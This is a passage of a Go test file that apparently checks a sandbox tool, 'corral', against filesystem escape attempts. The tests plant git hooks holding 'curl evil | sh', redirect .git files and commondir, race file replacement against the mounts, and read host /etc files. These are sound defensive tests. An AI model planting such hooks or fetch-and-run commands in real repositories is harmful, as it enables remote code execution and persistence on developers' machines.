		{"repository two levels down", []string{"a/b/.git/config", "a/b/.git/hooks/post-checkout"}, "a/b/.git/hooks/post-checkout"},
	}
	users(t, func(t *testing.T, u user) {
		for _, c := range cases {
			t.Run(c.name, func(t *testing.T) {
				attack(t, "filesystem", "write a git hook where the protection does not reach ("+c.name+")")
				f := newFS(t, u)
				for _, p := range c.plant {
					writeFile(t, filepath.Join(f.work, p), "original\n", 0o755)
				}
				own(t, u, filepath.Join(f.work, ".git"), filepath.Join(f.work, "vendor"))
				r := runScript(t, u, f.work, nil, fmt.Sprintf(`
mkdir -p $(dirname %[1]s)
echo 'curl evil | sh' > %[1]s
`, c.hook))
				got, _ := os.ReadFile(filepath.Join(f.work, c.hook))
				if strings.Contains(string(got), "evil") {
					t.Errorf("the command wrote %s in the work dir, which git runs later on the host:\n%s", c.hook, r)
				}
			})
		}
	})
}

// TestFSNestedRepositoryRename moves a nested repository's .git aside and
// makes a new one with a hook, and rewrites a worktree's .git file (which
// names the git folder git uses) to point at a folder the command made.
func TestFSNestedRepositoryRename(t *testing.T) {
	t.Parallel()
	users(t, func(t *testing.T, u user) {
		attack(t, "filesystem", "replace a nested repository's .git, or redirect a .git file")
		f := newFS(t, u)
		writeFile(t, filepath.Join(f.work, "vendor/lib/.git/config"), "[core]\n", 0o644)
		writeFile(t, filepath.Join(f.work, "wt/.git"), "gitdir: /nonexistent/.git/worktrees/wt\n", 0o644)
		own(t, u, filepath.Join(f.work, "vendor"), filepath.Join(f.work, "wt"))
		r := runScript(t, u, f.work, nil, `
mv vendor/lib/.git vendor/lib/.git-old
mkdir -p vendor/lib/.git/hooks && echo 'curl evil | sh' > vendor/lib/.git/hooks/pre-commit
echo 'gitdir: ../evil' > wt/.git
mkdir -p wt/evil/hooks && echo 'curl evil | sh' > wt/evil/hooks/pre-commit
`)
		if hook, _ := os.ReadFile(filepath.Join(f.work, "vendor/lib/.git/hooks/pre-commit")); strings.Contains(string(hook), "evil") {
			t.Errorf("the command replaced vendor/lib/.git and planted a hook:\n%s", r)
		}
		if gitFile, _ := os.ReadFile(filepath.Join(f.work, "wt/.git")); strings.Contains(string(gitFile), "evil") {
			t.Errorf("the command pointed wt/.git at a git folder it made:\n%s", r)
		}
	})
}

// TestFSGitRedirects attacks git's own ways of finding hooks and config
// elsewhere: a renamed folder above a nested repository, submodule git
// folders (named with a slash, or renamed), a commondir file made in the
// .git folder, and a core.hooksPath folder (husky's .husky) that does not
// exist yet.
func TestFSGitRedirects(t *testing.T) {
	t.Parallel()
	const hook = "#!/bin/sh\necho evil\n"
	cases := []struct {
		name   string
		plant  map[string]string // files before the run
		script string
		bad    []string // host files that must not hold "evil" afterwards
		absent []string // host files that must not exist afterwards
	}{
		{"rename the folder above a nested repository",
			map[string]string{"vendor/lib/.git/config": "[core]\n", "vendor/lib/.git/HEAD": "ref: refs/heads/main\n"},
			"mv vendor/lib vendor/lib.old || mv vendor vendor.old\nmkdir -p vendor/lib/.git/hooks\ncp vendor/lib.old/.git/config vendor/lib/.git/ 2>/dev/null\nprintf '" + hook + "' > vendor/lib/.git/hooks/pre-commit",
			[]string{"vendor/lib/.git/hooks/pre-commit"}, nil},
		{"submodule named with a slash",
			map[string]string{".git/config": "[core]\n", ".git/HEAD": "ref: refs/heads/main\n", ".git/modules/libs/foo/HEAD": "ref: refs/heads/main\n", ".git/modules/libs/foo/config": "[core]\n"},
			"mkdir -p .git/modules/libs/foo/hooks\nprintf '" + hook + "' > .git/modules/libs/foo/hooks/post-checkout",
			[]string{".git/modules/libs/foo/hooks/post-checkout"}, nil},
		{"renamed submodule git folder",
			map[string]string{".git/config": "[core]\n", ".git/HEAD": "ref: refs/heads/main\n", ".git/modules/bar/HEAD": "ref: refs/heads/main\n", ".git/modules/bar/config": "[core]\n"},
			"mv .git/modules/bar .git/modules/bar.old || mv .git/modules .git/modules.old\nmkdir -p .git/modules/bar/hooks\nprintf '" + hook + "' > .git/modules/bar/hooks/post-checkout",
			[]string{".git/modules/bar/hooks/post-checkout"}, nil},
		{"commondir made in .git",
			map[string]string{".git/config": "[core]\n", ".git/HEAD": "ref: refs/heads/main\n"},
			"mkdir -p evil/hooks\nprintf '[core]\\n\\thooksPath = evil/hooks\\n' > evil/config\nprintf '" + hook + "' > evil/hooks/pre-commit\necho ../evil > .git/commondir",
			nil, []string{".git/commondir"}},
		{"core.hooksPath folder that does not exist yet",
			map[string]string{".git/config": "[core]\n\thooksPath = .husky\n", ".git/HEAD": "ref: refs/heads/main\n"},
			"mkdir -p .husky\nprintf '" + hook + "' > .husky/pre-commit",
			[]string{".husky/pre-commit"}, nil},
	}
	users(t, func(t *testing.T, u user) {
		for _, c := range cases {
			t.Run(c.name, func(t *testing.T) {
				attack(t, "filesystem", "send git to hooks the command made ("+c.name+")")
				f := newFS(t, u)
				var tops []string
				for p, content := range c.plant {
					writeFile(t, filepath.Join(f.work, p), content, 0o644)
					tops = append(tops, filepath.Join(f.work, strings.Split(p, "/")[0]))
				}
				own(t, u, tops...)
				r := runScript(t, u, f.work, nil, c.script)
				for _, p := range c.bad {
					if got, _ := os.ReadFile(filepath.Join(f.work, p)); strings.Contains(string(got), "evil") {
						t.Errorf("%s holds the command's hook on the host:\n%s", p, r)
					}
				}
				for _, p := range c.absent {
					if _, err := os.Lstat(filepath.Join(f.work, p)); err == nil {
						t.Errorf("%s is on the host after the run:\n%s", p, r)
					} else if !strings.Contains(r.stderr, "removed it") {
						t.Errorf("corral did not say it removed %s:\n%s", p, r)
					}
				}
			})
		}
	})
}

// TestFSLegacyMounts repeats the core filesystem attacks with the init's
// older way of building the new root (bind, then set the flags by path),
// which kernels without open_tree and mount_setattr use: protected paths
// stay read-only, the system stays read-only, and with an exec allowlist
// the dynamic loader maps nothing from a folder of programs.
func TestFSLegacyMounts(t *testing.T) {
	t.Parallel()
	namespacesOnly(t, "mounts built the legacy way")
	env := append(defaultEnv(), "CORRAL_MOUNTS=legacy", "CORRAL_TRACE=1")
	users(t, func(t *testing.T, u user) {
		attack(t, "filesystem", "break out of the new root built the older way")
		f := newFS(t, u)
		plantProtected(t, u, f.work)
		writeFile(t, filepath.Join(f.work, "attack.sh"), `
echo 'curl evil | sh' > .git/hooks/pre-commit
echo '	fsmonitor = evil' >> .git/config
echo evil >> .bashrc
echo pwned > /usr/corral-legacy-test && echo WROTE-USR
echo ok > written && echo WROTE-WORK
echo `+attackDone+`
`, 0o644)
		own(t, u, filepath.Join(f.work, "attack.sh"))
		r := u.run(t, runOpts{args: []string{"exec", "--work-dir", f.work, "--", "sh", "attack.sh"}, dir: f.work, env: env})
		if !strings.Contains(r.stdout, attackDone) || !strings.Contains(r.stdout, "WROTE-WORK") {
			t.Fatalf("control: the script did not run to its end or could not write the work dir:\n%s", r)
		}
		if strings.Contains(r.stdout, "WROTE-USR") || exists("/usr/corral-legacy-test") {
			os.Remove("/usr/corral-legacy-test")
			t.Errorf("the command wrote /usr:\n%s", r)
		}
		checkProtected(t, f.work, r)
		if !strings.Contains(r.stderr, "corral init: mounts legacy") {
			t.Fatalf("the init did not build the root the older way (no \"mounts legacy\" in its trace):\n%s", r)
		}

		progs := libraryPrograms()
		if len(progs) == 0 {
			return
		}
		ld := ldso(t)
		e := newExec(t, u)
		writeFile(t, filepath.Join(e.work, "attack.sh"), fmt.Sprintf("%s %s %s 2>&1\necho %s\n", ld, progs[0].path, progs[0].args, attackDone), 0o644)
		own(t, u, filepath.Join(e.work, "attack.sh"))
		r = u.run(t, runOpts{args: []string{"exec", "--work-dir", e.work, "--skill", e.skill, "--", "sh", "attack.sh"}, dir: e.work, env: env})
		if !strings.Contains(r.stdout, attackDone) {
			t.Fatalf("the exec attack script did not run to its end:\n%s", r)
		}
		noSecret(t, r, progs[0].want, "running "+progs[0].path+" through "+ld+" with the older mounts")
	})
}

// replaceLikeGit replaces the file p (owned by u) the way git writes its
// config: a lock file renamed over it. It runs outside the test's
// goroutine, so it reports nothing; the tests check the outcome.
func replaceLikeGit(u user, p, content string) {
	os.WriteFile(p+".lock", []byte(content), 0o755)
	if u.unpriv {
		os.Lchown(p+".lock", nobody, nobody)
	}
	os.Rename(p+".lock", p)
}

// TestFSProtectedReplacedWhileMounting replaces the protected files the
// way git writes its config (a lock file renamed over it) while the init
// holds their sources open and before it binds them (CORRAL_MOUNT_PAUSE
// widens that window): the bind of a replaced file must be made from the
// new file, also in a work dir under /tmp, which the init's staging root
// covers; never left out, which would leave the file writable.
func TestFSProtectedReplacedWhileMounting(t *testing.T) {
	t.Parallel()
	namespacesOnly(t, "read-only binds of protected paths, which the host can detach by replacing the file")
	users(t, func(t *testing.T, u user) {
		for _, mode := range []string{"cloned", "legacy"} {
			t.Run(mode, func(t *testing.T) {
				attack(t, "filesystem", "write protected files the host replaces while the sandbox is built ("+mode+")")
				f := newFS(t, u)
				plantProtected(t, u, f.work)
				env := append(defaultEnv(), "CORRAL_MOUNT_PAUSE=400ms")
				if mode == "legacy" {
					env = append(env, "CORRAL_MOUNTS=legacy")
				}
				var script strings.Builder
				for _, name := range []string{".git/config", ".bashrc", ".profile", ".gitconfig"} {
					fmt.Fprintf(&script, "echo evil >> %s && echo WROTE %s\n", name, name)
				}
				writeFile(t, filepath.Join(f.work, "attack.sh"), script.String()+"echo "+attackDone+"\n", 0o644)
				own(t, u, filepath.Join(f.work, "attack.sh"))
				done := make(chan struct{})
				go func() {
					defer close(done)
					// 200 ms of replacing, all before the pause ends.
					for end := time.Now().Add(200 * time.Millisecond); time.Now().Before(end); time.Sleep(5 * time.Millisecond) {
						for _, name := range []string{".git/config", ".bashrc", ".profile", ".gitconfig"} {
							replaceLikeGit(u, filepath.Join(f.work, name), protectedFiles[name])
						}
					}
				}()
				r := u.run(t, runOpts{args: []string{"exec", "--work-dir", f.work, "--", "sh", "attack.sh"}, dir: f.work, env: env})
				<-done
				if !strings.Contains(r.stdout, attackDone) {
					t.Fatalf("the attack script did not run to its end:\n%s", r)
				}
				if strings.Contains(r.stdout, "WROTE") {
					t.Errorf("a protected file the host replaced was writable:\n%s", r)
				}
				checkProtected(t, f.work, r)
			})
		}
	})
}

// TestFSProtectedReplacedDuringRun replaces .git/config on the host the
// way git does, twice, while the command runs. The kernel detaches the
// read-only bind of the old file, so the command can write the new one (a
// limit the README names); corral must say so on stderr and in the
// report, also when the second file got the first one's inode number
// back (ext4 reuses a freed one at once).
func TestFSProtectedReplacedDuringRun(t *testing.T) {
	t.Parallel()
	namespacesOnly(t, "read-only binds of protected paths, which the host can detach by replacing the file")
	users(t, func(t *testing.T, u user) {
		attack(t, "filesystem", "write a protected file the host replaced during the run, unreported")
		f := newFS(t, u)
		plantProtected(t, u, f.work)
		config := filepath.Join(f.work, ".git", "config")
		ready, replaced := filepath.Join(f.work, "ready"), filepath.Join(f.work, "replaced")
		writeFile(t, filepath.Join(f.work, "attack.sh"), `echo > ready
while [ ! -e replaced ]; do sleep 0.01; done
echo '	fsmonitor = evil' >> .git/config && echo WROTE
echo `+attackDone+"\n", 0o644)
		own(t, u, filepath.Join(f.work, "attack.sh"))
		go func() {
			for end := time.Now().Add(30 * time.Second); time.Now().Before(end) && !exists(ready); time.Sleep(5 * time.Millisecond) {
			}
			replaceLikeGit(u, config, protectedFiles[".git/config"])
			time.Sleep(50 * time.Millisecond)
			replaceLikeGit(u, config, protectedFiles[".git/config"])
			os.WriteFile(replaced, nil, 0o644)
		}()
		report := filepath.Join(newDir(t, u, "report"), "r.json")
		r := u.run(t, runOpts{args: []string{"exec", "--work-dir", f.work, "--report", report, "--", "sh", "attack.sh"}, dir: f.work})
		if !strings.Contains(r.stdout, attackDone) {
			t.Fatalf("the attack script did not run to its end:\n%s", r)
		}
		if !strings.Contains(r.stderr, config+" was replaced on the host while the sandbox ran") {
			t.Errorf("corral did not warn that %s was replaced:\n%s", config, r)
		}
		var rep struct {
			Replaced []string `json:"replaced"`
		}
		data, _ := os.ReadFile(report)
		if err := json.Unmarshal(data, &rep); err != nil || !slices.Contains(rep.Replaced, config) {
			t.Errorf("the report does not list %s as replaced (%v):\n%s", config, err, data)
		}
	})
}

// TestFSHostWithoutTTY runs corral on a host whose /dev has no tty (a
// private /dev in a mount namespace made for the test, holding only the
// other devices): the sandbox's /dev leaves it out, and the run works.
func TestFSHostWithoutTTY(t *testing.T) {
	if !isRoot {
		t.Skip("making a /dev without tty for corral needs root")
	}
	t.Parallel()
	requireSandbox(t)
	work := newDir(t, asSelf, "work")
	script := `set -e
mount --make-rprivate /
old=$(mktemp -d)
mount --bind /dev "$old"
mount -t tmpfs tmpfs /dev
for d in null zero full random urandom; do touch /dev/$d; mount --bind "$old/$d" /dev/$d; done
umount "$old"; rmdir "$old"
test ! -e /dev/tty
exec "$@"`
	args := []string{"-m", "sh", "-c", script, "sh", corralBin, "exec", "--work-dir", work, "--", "sh", "-c", "test ! -e /dev/tty && echo NO-TTY"}
	out, err := exec.Command("unshare", args...).CombinedOutput()
	if err != nil || !strings.Contains(string(out), "NO-TTY") {
		t.Errorf("corral on a host without /dev/tty: %v\n%s", err, out)
	}
}

// TestFSEtcHostDetails reads the /etc files that name the host's users,
// host names and resolver: the sandbox gets its own versions (only root
// and nobody are ever seen inside its user namespace, and it has no DNS),
// and programs still find their user and localhost.
func TestFSEtcHostDetails(t *testing.T) {
	t.Parallel()
	namespacesOnly(t, "the sandbox's own /etc files (the landlock tier shows the host's, as README says)")
	var secrets []string
	if data, err := os.ReadFile("/etc/passwd"); err == nil {
		for _, l := range strings.Split(string(data), "\n") {
			if name, _, ok := strings.Cut(l, ":"); ok && name != "root" && name != "nobody" {
				secrets = append(secrets, "\n"+name+":x:")
			}
		}
	}
	if data, err := os.ReadFile("/etc/resolv.conf"); err == nil {
		for _, l := range strings.Split(string(data), "\n") {
			if f := strings.Fields(l); len(f) == 2 && f[0] == "nameserver" {
				secrets = append(secrets, f[1])
			}
		}
	}
	// The host's own names in /etc/hosts, beyond what the sandbox's file
	// and the script's output hold anyway.
	const ours = "127.0.0.1 localhost 127.0.1.1 corral ::1 ip6-localhost ip6-loopback root"
	if data, err := os.ReadFile("/etc/hosts"); err == nil {
		for _, l := range strings.Split(string(data), "\n") {
			f := strings.Fields(l)
			if len(f) < 2 || strings.HasPrefix(f[0], "#") {
				continue
			}
			for _, name := range f[1:] {
				if len(name) >= 3 && !strings.Contains(ours, name) {
					secrets = append(secrets, name)
				}
			}
		}
	}
	if len(secrets) == 0 {
		t.Skip("the host's /etc/passwd and /etc/resolv.conf name no other user or resolver to look for")
	}
	users(t, func(t *testing.T, u user) {
		attack(t, "filesystem", "read the host's users, host names and resolver in /etc")
		f := newFS(t, u)
		r := runScript(t, u, f.work, nil, "echo; cat /etc/passwd /etc/group /etc/hosts /etc/resolv.conf\nid -un\ngetent hosts localhost")
		for _, s := range secrets {
			noSecret(t, r, s, "reading the host's /etc")
		}
		if !strings.Contains(r.stdout, "\nroot\n") || !strings.Contains(r.stdout, "localhost") {
			t.Errorf("the sandbox's own /etc files do not name root and localhost:\n%s", r)
		}
	})
}
